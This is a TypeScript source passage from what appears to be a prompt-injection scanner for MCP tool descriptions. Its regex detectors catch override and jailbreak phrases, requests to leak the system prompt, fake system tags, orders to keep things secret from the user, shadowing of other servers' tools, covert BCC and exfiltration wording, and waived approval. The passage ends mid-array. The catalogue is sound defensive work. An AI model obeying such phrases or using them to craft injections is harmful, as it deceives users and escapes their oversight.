/**
 * Detectors and patterns of instructions aimed at the model: overriding earlier instructions,
 * secrecy towards the user, fake system messages, claims about other servers' tools, orders to
 * call them, approval taken away.
 */
import { type Detector, type Hit, type RuleInput, VALUES } from '../rule-types'
import { isSibling, looksLikeIdentifier, NAME_STOP } from './items'
import { phrasesOf, withPhrases } from './languages'
import { type Gate, gated, gates, holdsAny, matches } from './matching'
import { brandOwner, otherOwners, ownerLabel } from './owners'

const INSTRUCTION_NOUNS =
  '(?:instructions?|directions|rules|guidelines|prompts?|directives|commands|messages|context|constraints|guardrails|policies|restrictions|programming|guidance)'

/** The person the model works for, however a text words it. */
const PERSON = String.raw`(?:the\s+|your\s+|any\s+)?(?:user|human|person(?:\s+(?:at\s+the\s+keyboard|chatting|you(?:'re|\s+are)?\s+help(?:ing)?|using\s+\w+))?|operator|customer|requester|client|people)s?`

export const OVERRIDE: Gate[] = [
  ...gates(
    [
      [
        ['ignor', 'disregard', 'forget', 'bypass', 'neglect'],
        String.raw`\b(?:ignore|disregard|forget|bypass|neglect)\b[^.!?\n]{0,30}?\b(?:previous|prior|preceding|earlier|above|former|original|all\s+other|any\s+other|system|safety|your|the\s+user'?s)\s+${INSTRUCTION_NOUNS}`,
      ],
      [
        ['ignor', 'disregard', 'forget'],
        String.raw`\b(?:ignore|disregard|forget)\s+(?:everything|all|anything)\s+(?:you\s+(?:were|have\s+been)\s+told|(?:said|written|stated)\s+(?:above|before|earlier)|above|before\s+this)`,
      ],
      [
        ['supersed', 'overrid', 'overrul', 'precedence', 'outrank'],
        String.raw`\b(?:supersedes?|overrides?|overrules?|outranks?|takes?\s+precedence\s+over)\s+(?:all\s+|any\s+|your\s+|the\s+)*(?:other\s+|previous\s+|prior\s+|earlier\s+|system\s+|user'?s?\s+|original\s+)+(?:instructions|rules|guidelines|prompts?|requests|directives|messages)`,
      ],
      [
        ['replace'],
        String.raw`\breplaces?\s+(?:your|the\s+user'?s|all\s+other)\s+(?:system\s+)?(?:instructions|rules|guidelines|prompts?|requests|directives)`,
      ],
      [
        ['treat'],
        String.raw`\btreat\b[^.!?\n]{0,60}?\bas\s+(?:(?:if\s+(?:it|they)\s+)?(?:coming|came|come)\s+from|written\s+by|an?\s+(?:order|instruction|request)\s+from)\s+${PERSON}(?:\s+themsel(?:f|ves))?`,
      ],
      [['whatever'], String.raw`\bwhatever\s+${PERSON}\s+(?:asks|says|wants|requests|types)\s*,\s*(?:first|always|just|instead)\b`],
      [
        ['regardless', 'matter'],
        String.raw`\b(?:regardless\s+of|no\s+matter)\s+what\s+(?:the\s+)?(?:user|human|system\s+prompt)\s+(?:says|said|asks|asked|wants|requests|instructs|tells)`,
      ],
      [['instructions', 'directives'], String.raw`\bnew\s+(?:system\s+)?(?:instructions|directives)\s*:`],
      // Authority claimed over the user: 'carries more weight than what the person at the keyboard asks'.
      [
        ['weight', 'priority', 'precedence', 'authority', 'importance'],
        String.raw`\b(?:more|greater|higher|precedence|priority|authority)\s+(?:weight|priority|precedence|authority|importance|trust)?\s*(?:than|over)\s+(?:what\s+)?${PERSON}(?:'s)?\b`,
      ],
      [
        ['outweigh', 'overrid', 'outrank', 'trump', 'overrul'],
        String.raw`\b(?:outweighs?|overrides?|outranks?|trumps?|overrules?)\s+(?:what\s+)?${PERSON}\b`,
      ],
      [
        ['differ', 'conflict', 'disagree', 'contradict'],
        String.raw`\b(?:when|if|where)\s+(?:they|these|the\s+two|both)\s+(?:differ|conflict|disagree|contradict)\s*,?\s*(?:go\s+with|follow|prefer|trust|obey|side\s+with)\b`,
      ],
      [
        ['follow', 'obey', 'priorit', 'prefer', 'trust'],
        String.raw`\b(?:follow|obey|prioriti[sz]e|prefer|trust)\s+(?:them|these|those|it|its\s+instructions|the\s+(?:page|tool|result|document)'?s?\s+instructions)\s+(?:over|above|instead\s+of)\s+${PERSON}`,
      ],
    ],
    'giu',
  ),
  ...phrasesOf('override'),
]

export const SECRECY: Gate[] = [
  ...gates(
    [
      [
        ['tell', 'mention', 'inform', 'reveal', 'notif', 'alert', 'disclos', 'warn', 'know', 'bring', 'explain'],
        String.raw`\b(?:do\s+not|don'?t|never|must\s+not|mustn'?t|should\s+not|shouldn'?t|avoid|refrain\s+from|without)\s+(?:ever\s+)?(?:tell(?:ing)?|mention(?:ing)?|inform(?:ing)?|reveal(?:ing)?|notify(?:ing)?|alert(?:ing)?|disclos(?:e|ing)|warn(?:ing)?|let(?:ting)?\s+(?:the\s+)?(?:user|human)\s+know|bring(?:ing)?\s+(?:it|this)\s+up|explain(?:ing)?)\b[^.!?\n]{0,40}?\b${PERSON}\b`,
      ],
      [
        ['mention', 'reveal', 'disclos', 'show', 'display', 'report', 'explain', 'log', 'acknowledg'],
        String.raw`\b(?:do\s+not|don'?t|never|must\s+not)\s+(?:mention|reveal|disclose|show|display|report|explain|log|acknowledge)\s+(?:this|these|that|the\s+(?:above|following))\s+(?:tool\s+call|call|step|instructions?|notes?|requests?|actions?|parameters?|fields?|behaviou?r|side\s+effects?)`,
      ],
      [
        ['without'],
        String.raw`\bwithout\s+(?:the\s+)?(?:user|human)'?s?\s+(?:knowledge|knowing|noticing|awareness|being\s+aware|seeing|consent)`,
      ],
      [
        ['keep', 'hide', 'conceal'],
        String.raw`\b(?:keep|hide|conceal)\s+(?:this|it|these|that|the\s+following|the\s+\w+)\s+(?:secret\s+|hidden\s+|private\s+|confidential\s+)?from\s+${PERSON}`,
      ],
      [['keep', 'leave'], String.raw`\b(?:keep|leave)\s+${PERSON}\s+(?:unaware|in\s+the\s+dark|out\s+of\s+(?:it|this|the\s+loop))`],
      [
        ['know', 'see', 'notice', 'find', 'learn', 'told', 'informed', 'aware', 'notified', 'shown'],
        String.raw`\b(?:user|human|person)s?\s+(?:must|should|shall|may)\s*(?:not|never|n't)\s+(?:ever\s+)?(?:know|see|notice|find\s+out|learn|be\s+(?:told|informed|aware|notified|shown))`,
      ],
      [
        ['need'],
        String.raw`\b(?:user|human|person)s?\s+(?:does|do|will)\s*(?:not|n't)\s+need\s+to\s+(?:know|see|notice|find\s+out|learn|be\s+(?:told|informed|aware|notified|shown|bothered))`,
      ],
      [
        ['need', 'reason'],
        String.raw`\b(?:no|there\s+is\s+no|there'?s\s+no|not\s+any)\s+(?:need|reason)\s+to\s+(?:tell|inform|mention|notify|alert|bother|show|bring\s+(?:this|it)\s+up)\b[^.!?\n]{0,20}?\b(?:user|human|person|people|them|chat|conversation)`,
      ],
      [
        ['let'],
        String.raw`\b(?:do\s+not|don'?t|never|must\s+not|without)\s+let(?:ting)?\s+${PERSON}\s+(?:ever\s+)?(?:know|see|notice|find\s+out|learn)`,
      ],
      [
        ['quietly', 'silently', 'secretly', 'covertly', 'discreetly', 'stealthily'],
        String.raw`(?:^|[.!?:;]\s+|\n\s*)(?:quietly|silently|secretly|covertly|discreetly|stealthily)\s*,`,
      ],
      [
        ['watching', 'looking', 'attention', 'present', 'around', 'keyboard'],
        String.raw`\b(?:when(?:ever)?|while|if)\s+${PERSON}\s+(?:is\s+not|isn'?t|are\s+not|aren'?t|is\s+no\s+longer)\s+(?:watching|looking|paying\s+attention|present|around|at\s+the\s+keyboard)`,
      ],
      [
        ['prefer', 'want', 'rather', 'like', 'asked', 'expect'],
        String.raw`\b(?:prefers?|wants?|would\s+(?:rather|like)|likes?|asked|expects?)\s+(?:not\s+to|to\s+not)\s+(?:hear|be\s+told|know|be\s+bothered|be\s+asked|be\s+informed|see|be\s+shown)`,
      ],
      [
        ['quietly', 'silently', 'without'],
        String.raw`\b(?:${PERSON})\s+(?:expects?|wants?|prefers?)\s+[^.!?\n]{0,40}?\b(?:quietly|silently|without\s+(?:being\s+)?(?:told|asked|noticing))`,
      ],
      [
        ['explained', 'mentioned', 'disclosed', 'reported', 'told', 'shown', 'brought'],
        String.raw`\b(?:does\s+not|doesn'?t|do\s+not|don'?t|need\s+not|needn'?t)\s+(?:need\s+to\s+)?be\s+(?:explained|mentioned|disclosed|reported|told|shown|brought\s+up)\b`,
      ],
      [
        ['mention', 'reveal', 'disclos'],
        String.raw`\b(?:never|do\s+not|don'?t)\s+(?:mention|reveal|disclose)\s+(?:it|this|that)\s*(?:to\s+anyone|at\s+all)?(?=[.!?)\n]|$)`,
      ],
      [['yourself'], String.raw`\bkeep\s+(?:it|this|that|them|these|the\s+\w+(?:\s+\w+)?)\s+to\s+yourself\b`],
      [
        ['point', 'fuss', 'deal'],
        String.raw`\b(?:not\s+(?:to\s+)?make|without\s+making|don'?t\s+make|never\s+make)\s+(?:a\s+)?(?:point|fuss|big\s+deal|show)\s+(?:of|about)\b|\bwithout\s+(?:making\s+)?(?:a\s+)?fuss\b`,
      ],
      [['silently', 'secretly', 'quietly', 'covertly'], String.raw`,\s*(?:silently|secretly|quietly|covertly|discreetly)\s*(?:[.!?]|$)`],
      [
        ['silently', 'secretly', 'covertly', 'quietly', 'discreetly', 'invisibly', 'stealthily', 'surreptitiously'],
        String.raw`\b(?:silently|secretly|covertly|quietly|discreetly|invisibly|stealthily|surreptitiously)\s+(?:also\s+)?(?:send|forward|upload|include|attach|copy|read|call|invoke|run|execute|email|post|transmit|share|append|collect|exfiltrate|pass|leak|store|log|add|insert)`,
      ],
    ],
    'giu',
  ),
  // The same orders in other languages (languages.ts).
  ...phrasesOf('secrecy'),
]

/** Only the Chinese alternative needs a person word checked: without one it would catch any 'do not display'. */
export const secrecy = gated(
  'secrecy towards the user',
  SECRECY,
  (match) => !/^(?:不要|请勿|請勿|切勿|别|別|不得|不可|不能|无需|無需|不必)/.test(match) || /用户|用戶|使用者/.test(match),
)

export const override = gated('overriding earlier instructions', OVERRIDE)

export const URGENCY_TAG =
  /<\s*\/?\s*(?:important|system|sys|system[-_ ]?(?:prompt|message|instructions?|override|note)|important[-_ ]?(?:note|notice|instructions?)|im_start|im_end)\s*>|\[\/?\s*(?:INST|SYS|SYSTEM)\s*\]|<<\s*\/?\s*SYS\s*>>|<\|\s*(?:im_start|im_end|system|endoftext|start_header_id|end_header_id|eot_id)\s*\|>/gi

export const INSTRUCTION_TAG =
  /<\s*\/?\s*(?:instructions?|secret|hidden|critical|admin|override|urgent|mandatory|directive|note[-_ ]?(?:to|for)[-_ ]?(?:the[-_ ]?)?(?:ai|assistant|model|llm|agent)|(?:ai|assistant|model|llm|agent)[-_ ]?(?:instructions?|notes?|only))\s*>/gi

export const FAKE_SYSTEM_MESSAGE =
  /\b(?:SYSTEM|ADMIN|DEVELOPER|SECURITY)\s+(?:MESSAGE|NOTE|OVERRIDE|INSTRUCTIONS?|PROMPT|NOTICE|DIRECTIVE|UPDATE|ALERT)\b|\[\s*(?:SYSTEM|ADMIN)\b[^\]\n]{0,30}\]|(?:^|\n)[ \t]*(?:#+[ \t]*)?SYSTEM[ \t]*:/g

export const ROLE_PLAY = new RegExp(
  [
    String.raw`\byou\s+are\s+(?:now\s+)?(?:an?\s+)?(?:unrestricted|jailbroken|unfiltered|uncensored|evil|rogue|DAN)\b`,
    String.raw`\byou\s+are\s+now\s+(?:in\s+)?(?:an?\s+)?(?:\w+\s+)?(?:mode|assistant|agent|AI|model|administrator|admin|developer)\b`,
    String.raw`\bfrom\s+now\s+on,?\s+(?:you|always|never|ignore|respond|act|the\s+(?:assistant|model|ai))\b`,
    String.raw`\b(?:act|behave|respond|pretend|role-?play)\s+(?:as|like)\s+(?:if\s+you\s+(?:are|were)\s+)?(?:an?\s+)?(?:unrestricted|jailbroken|different|evil|DAN|system|administrator|admin|root|superuser|hacker)\b`,
    String.raw`\b(?:enter|enable|activate|switch\s+to)\s+(?:the\s+)?(?:developer|god|jailbreak|DAN|unrestricted|sudo|admin|debug)\s+mode\b`,
    String.raw`\b(?:developer|god|jailbreak|DAN)\s+mode\s+(?:is\s+)?(?:enabled|on|activated)\b`,
    String.raw`\byour\s+(?:new|real|true|actual)\s+(?:instructions|role|task|purpose|goal|objective)\s+(?:is|are)\b`,
  ].join('|'),
  'gi',
)

export const PROMPT_LEAK =
  /\b(?:reveal|print|output|repeat|dump|leak|disclose|recite|echo|include|send|pass|copy|share|write|tell\s+me|put|attach|append)\b[^.!?\n]{0,20}?\b(?:your|its|the\s+assistant'?s|the\s+model'?s)\s+(?:full\s+|entire\s+|complete\s+|original\s+|initial\s+|hidden\s+)?(?:system\s+prompt|system\s+message|instructions|initial\s+instructions|hidden\s+instructions|rules|guidelines|context\s+window|configuration\s+prompt)|\b(?:reveal|print|repeat|dump|leak|disclose|recite)\b[^.!?\n]{0,20}?\bthe\s+(?:full\s+|entire\s+|original\s+|initial\s+|hidden\s+)?(?:system\s+prompt|system\s+message|initial\s+instructions|hidden\s+instructions)/gi

/** `[`'"]?name[`'"]?`: a tool named in a sentence, quoted or not. */
const TOOL_REF = String.raw`[\x60'"]?([A-Za-z][\w.-]*[A-Za-z0-9])[\x60'"]?`

/** Where a named tool comes from: 'write_file from the filesystem server', 'search of the Brave MCP'. */
const SERVER_WORD = String.raw`(?:mcp\s+)?(?:server|mcp|integration|connector|plugin|extension)`
const NOT_OWN = String.raw`(?!(?:this|our|your|its|same|own|that|current|local)\b)`
const FROM_SERVER = String.raw`(?:\s+(?:from|of|on|in|provided\s+by)\s+(?:the\s+)?${NOT_OWN}[\w.-]+\s+${SERVER_WORD})`

/**
 * A tool named as another server's, by its owner: 'the GitHub server's create_pull_request',
 * 'create_pull_request from the GitHub server'. Each captures (name, tool word); the claim counts
 * only with an order or a requirement about the tool in the same sentence (NEEDS_NEAR).
 */
export const SHADOW_OWNED: Gate[] = gates(
  [
    [
      ['server', 'mcp', 'integration', 'connector', 'plugin', 'extension'],
      String.raw`\b(?:the\s+)?${NOT_OWN}[\w.-]+\s+${SERVER_WORD}'s\s+${TOOL_REF}(\s+(?:tool|function|command))?`,
    ],
    [
      ['server', 'mcp', 'integration', 'connector', 'plugin', 'extension'],
      String.raw`\b(?:the\s+)?${TOOL_REF}(\s+(?:tool|function|command))?${FROM_SERVER}`,
    ],
    // The same in the languages the rules read: 'create_pull_request del servidor de GitHub', 'vom
    // GitHub-Server', 'из GitHub-сервера', 'GitHub 服务器的 create_pull_request', 'GitHub サーバーの'.
    [
      ['servidor', 'serveur', 'server'],
      String.raw`${TOOL_REF}\s+(?:del|de\s+la|de|do|da|du|dal|della|dello|vom|des|aus\s+dem|im)\s+(?:(?:la|le|o|a|il|l')\s*)?(?:[\w.-]+[-\s])?(?:MCP[-\s])?(?:servidor|serveur|server)s?\b`,
    ],
    [['сервер'], String.raw`${TOOL_REF}\s+(?:из|с|на|от)\s+(?:[\w.-]+[-\s])?(?:MCP[-\s])?сервер`],
    [
      ['服务器', '服務器', '伺服器', 'サーバ'],
      String.raw`(?:服务器|服務器|伺服器|サーバー?)(?:的|中的|里的|裡的|の)\s*(?:工具|ツール)?\s*${TOOL_REF}`,
    ],
  ],
  'giu',
)

/** An order or a requirement about a tool in its sentence: 'needs maintainer_can_modify true; set them without asking'. */
const NEEDS_NEAR = new RegExp(
  [
    String.raw`\b(?:needs?|requires?|expects?|must|should|always|never|set|pass|add|append|prepend|include|send|copy|forward|route|redirect|replace|change|instead|bcc|cc)\b`,
    String.raw`(?<![\p{L}])(?:siempre|debe|necesita|requiere|añade|agrega|establece|pon|sempre|precisa|adicione|defina|toujours|doit|ajoute|définis|immer|muss|setze|füge|aggiungi|imposta|всегда|должен|должна|нужно|добавь|установи|укажи)(?![\p{L}])`,
    '总是|總是|必须|必須|始终|始終|添加|设置|設置|设为|設為|附加|常に|必ず|追加|設定',
  ].join('|'),
  'iu',
)

export const SHADOW_WHEN: Gate[] = gates(
  [
    [
      ['used', 'called', 'invoked', 'run', 'execut', 'trigger'],
      String.raw`\b(?:when(?:ever)?|if|each\s+time|every\s+time|before|after|while|once)\s+(?:the\s+|any\s+|a\s+)?(?:[\w.-]+\s+(?:server|mcp|integration|app|plugin|extension)'s\s+)?${TOOL_REF}(\s+(?:tool|function|command))?${FROM_SERVER}?\s+(?:(?:is|are|gets?|has\s+been)\s+(?:used|called|invoked|run|executed|triggered)|runs|executes|returns)\b`,
    ],
    [
      ['sempre', 'quando', 'cuando', 'siempre', 'cada', 'lorsque', 'quand', 'chaque', 'wenn', 'sobald', 'ogni'],
      String.raw`\b(?:sempre\s+que|quando|cuando|siempre\s+que|cada\s+vez\s+que|lorsque|quand|chaque\s+fois\s+que|wenn|immer\s+wenn|sobald|ogni\s+volta\s+che)\s+(?:(?:o|a|el|la|le|l'|der|die|das|il|lo)\s+)?(?:(?:ferramenta|herramienta|outil|Werkzeug|Tool|strumento)\s+)?${TOOL_REF}(\s*)`,
    ],
    [
      ['wanneer', 'telkens', 'zodra', 'kiedy', 'ilekroć', 'setiap', 'khi'],
      String.raw`\b(?:wanneer|telkens\s+als|zodra|kiedy|ilekroć|setiap\s+kali|khi)\s+(?:de\s+|het\s+)?(?:tool\s+)?[\x60'"]?([A-Za-z][\w.-]*[A-Za-z0-9])[\x60'"]?(\s*)`,
    ],
    [
      ['когда', '每当', '每次', '当', '如果'],
      String.raw`(?:когда|каждый\s+раз,?\s+когда|每当|每次|当|如果)\s*(?:используется\s+|вызывается\s+|инструмент\s+|使用|调用|呼叫)?\s*${TOOL_REF}(\s*)`,
    ],
    [['を', 'が'], String.raw`${TOOL_REF}(\s*)(?:を|が)\s*(?:使|呼ば|呼び出|実行)`],
    [
      ['use', 'using', 'call', 'invok', 'run'],
      String.raw`\b(?:when(?:ever)?|if|each\s+time|every\s+time|before|after|while)\s+(?:you\s+|the\s+(?:assistant|model|agent)\s+)?(?:use|uses|call|calls|invoke|invokes|run|runs|using|calling|invoking|running)\s+(?:the\s+|any\s+|a\s+)?${TOOL_REF}(\s+(?:tool|function|command))?`,
    ],
    [
      ['server'],
      String.raw`\b(?:the\s+)?${TOOL_REF}(\s+(?:tool|function))\s+(?:from|of|on|in|provided\s+by)\s+(?:another|the\s+other|other|a\s+different)\s+(?:mcp\s+)?server`,
    ],
    [
      ['deprecat', 'broken', 'unsafe', 'compromis', 'malicious', 'disabled', 'unavailable', 'unreliable', 'insecure'],
      String.raw`\b(?:the\s+)?${TOOL_REF}(?:\s*(?:,|and|or)\s*[\x60'"]?[A-Za-z][\w.-]*[\x60'"]?)*(\s+(?:tools?|functions?))\s+(?:is|are|has\s+been|have\s+been)\s+(?:now\s+)?(?:deprecated|broken|unsafe|compromised|malicious|disabled|unavailable|unreliable|insecure)\b`,
    ],
    [
      ['use', 'call', 'invok', 'run'],
      String.raw`\b(?:never|do\s+not|don'?t|must\s+not|stop)\s+(?:use|using|call|calling|invoke|run)\s+(?:the\s+)?${TOOL_REF}(\s+(?:tools?|functions?))?`,
    ],
    // A listing named instead of a tool: 'when using the Slack tools', 'whenever you post to the
    // Slack workspace'. The name counts only as a brand of another listing (ScanContext.toolOwners).
    [
      ['use', 'using', 'call', 'invok', 'run', 'send', 'post'],
      String.raw`\b(?:when(?:ever)?|if|each\s+time|every\s+time|before|after|while)\s+(?:you\s+|the\s+(?:assistant|model|agent|user)\s+)?(?:use|uses|using|call|calls|calling|invoke|invokes|invoking|run|runs|running|send|sends|sending|post|posts|posting)\s+(?:(?:anything|messages?|a\s+message)\s+)?(?:(?:with|through|via|to|on|in)\s+)?(?:the\s+|any\s+|a\s+|an\s+)?([A-Za-z][\w.-]*[A-Za-z0-9])(\s+(?:tools?|functions?|server|integration|connector|app|mcp|channels?|workspace))\b`,
    ],
  ],
  'gi',
)

/**
 * Orders about a whole kind of other tools, paraphrased without naming one: 'whenever the user
 * sends a message through any messaging tool, first...', 'when anything they send goes through a
 * messaging integration, always...'. What is sent, through which other tools, then an order.
 */
export const SHADOW_ANY: Gate[] = gates(
  [
    [
      ['through', 'via', 'using'],
      String.raw`\b(?:when(?:ever)?|each\s+time|every\s+time|any\s+time|before|after|if)\b[^.!?\n]{0,40}?\b(?:sends?|sent|posts?|posted|writes?|shares?|relays?|forwards?|goes)\b[^.!?\n]{0,30}?\b(?:through|via|using)\s+(?:(?:any|another|other|the\s+other|some)\s+(?:\w+\s+){0,2}|an?\s+(?:\w+\s+){1,2})(?:tools?|servers?|integrations?|apps?|connectors?|plugins?)\b[^.!?\n]{0,80}?\b(?:first|always|also|must|make\s+sure|add|append|prepend|include|set|change|copy|forward|route|redirect|replace|bcc|cc)\b`,
    ],
  ],
  'gi',
)

/** An order in what follows a claim about a listing's tools: 'when using the Slack tools, always add...'. */
const ORDER_AFTER =
  /^[^.!?\n]{0,120}?\b(?:always|must|first|also|never|make\s+sure|add|append|prepend|include|set|change|send|copy|forward|route|redirect|replace|instead|bcc|cc)\b/i

/**
 * Claims about other tools: 'when the send_email tool is used, always BCC...'. A tool of this
 * surface is the server's own business (orchestrating its siblings is ordinary); a name it does
 * not list belongs to another server, which this one has no business instructing.
 */
export const shadowing: Detector = {
  name: "claims about other servers' tools",
  on: 'normalized',
  find: (text, input) => {
    const out: Hit[] = []
    const lower = text.toLowerCase()
    for (const part of SHADOW_WHEN) {
      if (!holdsAny(input, lower, part.words)) continue
      for (const m of matches(part.pattern, text)) out.push(...shadowHit(m, text, input))
    }
    // A tool named as another server's counts with an order about it in the same sentence; a name
    // the catalogue does not know must still be called a tool ('the NOAA server's forecast_daily
    // endpoint' is an address, not a tool).
    for (const part of SHADOW_OWNED) {
      if (!holdsAny(input, lower, part.words)) continue
      for (const m of matches(part.pattern, text)) {
        const from = Math.max(0, text.lastIndexOf('.', m.index) + 1, text.lastIndexOf('。', m.index) + 1)
        const stop = /[.!?\n。]/.exec(text.slice(m.index + m[0].length))
        const sentence = text.slice(from, stop ? m.index + m[0].length + stop.index : undefined)
        if (NEEDS_NEAR.test(sentence)) out.push(...shadowHit(m, text, input))
      }
    }
    for (const part of SHADOW_ANY) {
      if (!holdsAny(input, lower, part.words)) continue
      for (const m of matches(part.pattern, text)) out.push({ start: m.index, end: m.index + m[0].length })
    }
    // Two patterns reading one claim ('when using the Slack tools', 'whenever write_file from the
    // filesystem server is called') are one finding: a hit overlapping an earlier one is dropped.
    return out.filter((hit, at) => out.findIndex((other) => other.start < hit.end && hit.start < other.end) === at)
  },
}

/**
 * One claim about a tool: kept when the tool named is not this server's, and naming the listing
 * it belongs to when the catalogue knows it. Each pattern captures (name, tool word).
 */
function shadowHit(m: RegExpExecArray, text: string, input: RuleInput): Hit[] {
  const [, name, toolWord] = m
  if (!name || NAME_STOP.has(name.toLowerCase()) || isSibling(name, input.item)) return []
  const hit: Hit = { start: m.index, end: m.index + m[0].length }
  // A name other listings use is a tool whatever the sentence calls it; otherwise it must look like
  // one and be called one ('when using projectSlug' is about a parameter, 'before calling mutating
  // tools' about no tool in particular).
  const known = input.context.otherToolNames?.has(name) === true
  if (known || (looksLikeIdentifier(name) && toolWord !== undefined)) {
    const owner = otherOwners(input.context, name)[0]
    if (owner)
      hit.reason = `The text gives orders about \`${name}\`, a tool of ${ownerLabel(owner)}, to change what it does when the model uses it.`
    return [hit]
  }
  // A listing's brand called tools ('the Slack tools'), with an order after it: another listing's
  // tools paraphrased. A word no listing carries, or that this listing's own names carry, is not.
  if (toolWord === undefined) return []
  const owner = brandOwner(input.context, name)
  if (!owner || !ORDER_AFTER.test(text.slice(hit.end))) return []
  hit.reason = `The text gives orders about the tools of ${ownerLabel(owner)} ('${name}${toolWord}'), to change what they do when the model uses them.`
  return [hit]
}

/**
 * A tool asking to be called before (or instead of) every other: pushy, and a real server's habit
 * (Google's Maps code assist asks it of its instructions tool), but it gives no order about what
 * the others do: low.
 */
export const CALL_ME_FIRST =
  /\b(?:must|should|shall)\s+(?:always\s+)?(?:be\s+)?(?:called|used|invoked|run)\s+(?:first\s+)?(?:before|instead\s+of)\s+(?:any|all|every)\s+other\s+(?:tools?|functions?)/gi

export const SHADOW_GENERIC = new RegExp(
  [
    String.raw`\b(?:all|any|every)\s+other\s+(?:mcp\s+)?(?:tools?|servers?|functions?)\b[^.!?\n]{0,50}?\b(?:must|should|shall|need\s+to|have\s+to|are\s+required\s+to)\b`,
    String.raw`\b(?:before|instead\s+of)\s+(?:calling|using|invoking|running)\s+(?:any|every|all)\s+(?:other\s+)?(?:tools?|functions?)\s+(?:of|from|on|in)\s+(?:any|every|all|other|another)\s+(?:mcp\s+)?servers?`,
    String.raw`\b(?:before|instead\s+of)\s+(?:calling|using|invoking|running)\s+(?:any|every|all)\s+other\s+(?:tools?|functions?)\b[^.!?\n]{0,40}?\b(?:always|must|first)\b`,
    String.raw`\b(?:every|all|any|each)\s+(?:\w+\s+)?(?:tools?|functions?)\s+(?:of|from|on|in|provided\s+by)\s+(?:the\s+)?(?:other|another|all\s+other)\s+(?:connected\s+|installed\s+|available\s+)?(?:mcp\s+)?servers?`,
    String.raw`\bwhenever\s+you\s+(?:run|call|use|execute|send|write|make)\s+(?:a|an|any)\s+(?:\w+\s+){0,2}(?:command|tool|request|message|e-?mail|query|file|call)\b[^.!?\n]{0,60}?\b(?:prefix|append|prepend|add|include|insert|replace|change|set|redirect)\b`,
    String.raw`\bother\s+(?:\w+\s+)?(?:tools?|servers?|integrations?)\s+(?:are|is)\s+(?:now\s+)?(?:unreliable|broken|unsafe|deprecated|insecure|outdated|malicious|compromised|inaccurate|untrustworthy)`,
    String.raw`\binstead\s+of\s+(?:the\s+one|the\s+ones|what|where|whatever)\s+(?:they|the\s+user|the\s+person|you\s+were\s+told)\s+(?:picked|chose|chosen|asked\s+for|wanted|specified|selected|named|gave)`,
    String.raw`\bthe\s+[A-Z][\w-]*\s+(?:integration|mcp\s+server|connector|plugin)\b[^.!?\n]{0,100}?\b(?:should|must|always)\s+(?:target|use|send|point|go|be\s+sent|be\s+routed)\b`,
    String.raw`\b(?:another|other|any\s+other|a\s+different)\s+(?:integration|mcp\s+server|server|connector|plugin|extension|app)s?\b[^.!?\n]{0,60}?\b(?:should|must|shall|always|also\s+(?:hand|send|pass|give|copy|forward)|route|redirect)\b`,
    String.raw`\b(?:this|these)\s+(?:rule|instruction|requirement|policy|note|behaviou?r)s?\s+(?:also\s+)?appl(?:y|ies)\s+to\s+(?:all|every|any|other)\b`,
    String.raw`\b(?:always|also|automatically|silently|secretly|must)\s+(?:add\s+|include\s+)?(?:bcc|cc|blind[\s-]copy|forward\s+(?:a\s+)?copy|send\s+a\s+copy|carbon[\s-]copy)\b`,
    String.raw`\b(?:change|modify|alter|replace|rewrite|redirect)\s+(?:the\s+)?(?:behaviou?r|recipients?|destination|parameters|arguments|output)\s+of\s+(?:the\s+|any\s+|all\s+)?(?:other\s+)?(?:tools?|functions?|servers?)`,
  ].join('|'),
  'gi',
)

const CALL_OTHER = new RegExp(
  String.raw`\b(?:must|always|first|need\s+to|have\s+to|should|make\s+sure\s+(?:to|you)|be\s+sure\s+to|immediately|then)\s+(?:(?:first|also|always|immediately)\s+)?(?:call|invoke|run|execute|trigger|use)\s+(?:the\s+)?${TOOL_REF}(\s+(?:tool|function|command))?`,
  'gi',
)

/**
 * Orders to call a tool this server does not list. Calling a sibling first is ordinary ('call
 * list_allowed_directories before...'); a name it does not list is another server's tool, or a
 * tool the order wants the model to believe exists.
 */
export const callOtherTool: Detector = {
  name: 'orders to call a tool the server does not list',
  on: 'normalized',
  find: (text, input) => {
    const out: Hit[] = []
    for (const m of matches(CALL_OTHER, text)) {
      const name = m[1]
      if (!name || NAME_STOP.has(name.toLowerCase())) continue
      // A plain word is a tool only when called one ('use the search tool'), and then it is a guess: low.
      // Quotes alone make no identifier: 'then use "rerank"' names an option, 'Resolve ... ID' a title.
      const identifier = looksLikeIdentifier(name) || input.context.otherToolNames?.has(name) === true
      if (!identifier && !m[2]) continue
      if (isSibling(name, input.item)) continue
      out.push({ start: m.index, end: m.index + m[0].length, severity: identifier ? undefined : 'low' })
    }
    return out
  },
}

export const BEFORE_USING =
  /\b(?:before|prior\s+to)\s+(?:using|calling|invoking|running|executing|you\s+(?:use|call|run))\s+(?:this|the|any|these)\s+(?:tools?|functions?)\b[^.!?\n]{0,80}?(?:\b(?:read|open|cat|load|access|look\s+at|retrieve)\b[^.!?\n]{0,40}?(?:~|\/|\b\w*\.(?:json|env|pem|key|ya?ml|toml|ini|conf|cfg|txt|db|sqlite)\b|\b(?:file|config(?:uration)?|key|token|secret|credential|password|env(?:ironment)?|history|conversation|cookies?)s?\b)|\b(?:send|upload|attach|email|post|forward|exfiltrate|transmit|submit)\b)/gi

/** Taking away the user's say: approval claimed in advance, confirmation waived. */
export const APPROVAL_BYPASS = new RegExp(
  [
    String.raw`\b(?:never|don'?t|do\s+not|no\s+need\s+to|without|skip)\s+(?:ask(?:ing)?|wait(?:ing)?\s+for|request(?:ing)?|seek(?:ing)?|prompt(?:ing)?(?:\s+the\s+user)?\s+for|get(?:ting)?)\s+(?:the\s+user(?:'s)?\s+|their\s+|for\s+)?(?:for\s+)?(?:confirmation|approval|permission|consent|sign-?off)`,
    String.raw`\b(?:pre-?approved|already\s+(?:been\s+)?approved|approved\s+in\s+advance|blanket\s+(?:approval|permission)|auto-?approved)\s+by\s+${PERSON}`,
    String.raw`\b${PERSON}\s+(?:has|have)\s+already\s+(?:approved|agreed\s+to|consented\s+to|authori[sz]ed)\b`,
    String.raw`\b${PERSON}\s+(?:has|have)\s+(?:approved|agreed\s+to|consented\s+to|authori[sz]ed)\s+(?:this|it|that|these|all\s+of\s+this)\s+already\b`,
    String.raw`\b(?:do\s+not|don'?t|never)\s+ask\s+(?:(?:the\s+user|them|again)\s+)?(?:again|twice|for\s+(?:it|this)\s+again)\b`,
    String.raw`\b(?:never|don'?t|do\s+not|no\s+need\s+to|without)\s+ask(?:ing)?\s+(?:the\s+user|them|anyone|the\s+person)\s+(?:to\s+)?(?:confirm|approve|agree|consent)`,
